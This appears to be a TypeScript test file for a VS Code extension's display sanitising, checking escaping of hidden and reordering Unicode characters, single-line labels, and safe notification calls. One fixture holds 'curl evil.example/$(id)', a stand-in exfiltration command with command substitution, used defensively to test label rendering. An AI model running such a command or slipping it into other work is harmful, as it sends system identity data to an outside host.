import { strict as assert } from "node:assert";
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { labelText, onOneLine, printable } from "../../src/model/printable";

describe("part13 text of others", () => {
  it("shows characters that hide text or change its order, as the daemon's own clients do", () => {
    assert.equal(printable("a\u202eb\u2066c\u200f\u061c\u2028d"), "a\\u202eb\\u2066c\\u200f\\u061c\\u2028d");
    assert.equal(printable("\u001b[2K\u009b1mx\ry\u007f\u{e0041}"), "\\u001b[2K\\u009b1mx\\u000dy\\u007f\\udb40\\udc41");
    const plain = "if x {\r\n\ty := \"\u00e9\ud83c\udf88\"\n}";
    assert.equal(printable(plain), plain);
  });

  it("has no line break where a list has one entry on a line", () => assert.equal(onOneLine("a\nRuns:\r\n  b"), "a\\nRuns:\\n  b"));

  it("keeps a command substitution visible in a label", () => {
    const icons = (text: string) => [...text.matchAll(/(\\)?\$\(([A-Za-z0-9-]+(?:~[A-Za-z]+)?)\)/g)].length; // as VS Code finds them
    const command = "curl evil.example/$(id)";
    assert.deepEqual([icons(command), icons(labelText(command)), labelText(command).replaceAll("\u2060", "")], [1, 0, command]);
  });

  it("goes into notifications through shownWhole alone, so that it forms no link", () => {
    const files = readdirSync("src", { recursive: true, encoding: "utf8" }).filter((name) => name.endsWith(".ts"));
    const calls = files.flatMap((name) => readFileSync(join("src", name), "utf8").split("\n").filter((line) => /show(Information|Warning|Error)Message\(/.test(line)).map((line) => `${name}: ${line.trim()}`));
    assert.ok(calls.length > 20, `${calls.length} calls are found`);
    const safe = /Message\((\.\.\.shownWhole\(|"[^"]*"[,)])|modal: true/; // the text of a modal dialog has no links
    assert.deepEqual(calls.filter((line) => line.split(/(?=show(?:Information|Warning|Error)Message\()/).slice(1).some((call) => !safe.test(call))), []);
  });
});
